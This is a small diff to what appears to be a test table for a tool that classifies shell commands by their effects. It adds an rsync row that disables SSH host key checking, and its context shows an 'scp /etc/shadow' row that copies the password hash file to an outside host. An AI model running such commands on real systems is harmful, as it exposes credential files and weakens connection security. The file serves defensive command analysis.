@@ -3,6 +3,10 @@ import { effectsOf } from '../../effects-of.js';
 
 const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
   [
+    "rsync -e 'ssh -o StrictHostKeyChecking=no' a h:b",
+    ['crypto:weaken host keys', 'read:read a external', 'network:send external', 'network:send h external'],
+  ],
+  [
     'scp /etc/shadow bob@h.example:/tmp/',
     [
       'read:read /etc/shadow external sensitive',
